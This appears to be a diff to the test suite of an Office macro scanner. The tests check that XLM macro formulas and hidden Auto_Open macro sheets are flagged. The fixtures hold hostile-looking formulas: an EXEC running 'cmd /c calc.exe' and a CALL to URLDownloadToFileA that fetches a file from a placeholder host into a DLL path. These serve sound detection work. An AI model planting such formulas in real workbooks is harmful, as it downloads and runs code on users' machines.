@@ -10,17 +10,23 @@ describe('analyzeXlm', () => {
   });
 
   it('names notable functions in OOXML-style formula text', () => {
-    const f = analyzeXlm(['=EXEC("cmd /c calc.exe")', '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.test/x","c:\\x.dll",0,0)', '=HALT()'], 'b.xlsm > xl/macrosheets/sheet1.xml');
-    assert.equal(f[0]!.symbol, 'OFFICE_XLM_MACRO');
-    assert.match(f[0]!.detail!, /3 macro-sheet formula\(s\): EXEC, CALL, URLDownloadToFileA, HALT/);
-    assert.equal(f[1]!.symbol, 'OFFICE_MACRO_SUSPICIOUS');
-    assert.match(f[1]!.detail!, /EXEC, CALL, URLDownloadToFileA/);
-    assert.match(f[1]!.detail!, /http:\/\/example\.test\/x/);
+    const f = analyzeXlm(
+      ['=EXEC("cmd /c calc.exe")', '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.test/x","c:\\x.dll",0,0)', '=HALT()'],
+      'b.xlsm > xl/macrosheets/sheet1.xml',
+    );
+    assert.equal(f[0].symbol, 'OFFICE_XLM_MACRO');
+    assert.match(f[0].detail!, /3 macro-sheet formula\(s\): EXEC, CALL, URLDownloadToFileA, HALT/);
+    assert.equal(f[1].symbol, 'OFFICE_MACRO_SUSPICIOUS');
+    assert.match(f[1].detail!, /EXEC, CALL, URLDownloadToFileA/);
+    assert.match(f[1].detail!, /http:\/\/example\.test\/x/);
   });
 
   it('benign macro sheet: only OFFICE_XLM_MACRO', () => {
     const f = analyzeXlm(['=SELECT("R1C1")', '=RETURN()'], 'p');
-    assert.deepEqual(f.map((x) => x.symbol), ['OFFICE_XLM_MACRO']);
+    assert.deepEqual(
+      f.map((x) => x.symbol),
+      ['OFFICE_XLM_MACRO'],
+    );
   });
 
   it('Auto_Open names', () => {
@@ -43,12 +49,18 @@ describe('BIFF8 formulas', () => {
   });
 
   it('parses BOUNDSHEET type/visibility, built-in names and macro-sheet formulas', () => {
-    const wb = buildWorkbookStream({ macroSheet: { name: 'Macro1', hidden: 2, formulas: [Buffer.concat([ptg.str('x'), ptg.funcVar(XLM.EXEC, 1)])] }, autoOpen: true });
+    const wb = buildWorkbookStream({
+      macroSheet: { name: 'Macro1', hidden: 2, formulas: [Buffer.concat([ptg.str('x'), ptg.funcVar(XLM.EXEC, 1)])] },
+      autoOpen: true,
+    });
     const info = parseBiff(wb);
-    assert.deepEqual(info.sheets.map((s) => [s.name, s.type, s.hidden, s.formulas]), [
-      ['Sheet1', 0, 0, []],
-      ['Macro1', 1, 2, ['=EXEC("x")']],
-    ]);
+    assert.deepEqual(
+      info.sheets.map((s) => [s.name, s.type, s.hidden, s.formulas]),
+      [
+        ['Sheet1', 0, 0, []],
+        ['Macro1', 1, 2, ['=EXEC("x")']],
+      ],
+    );
     assert.deepEqual(info.names, ['Auto_Open']);
   });
 });
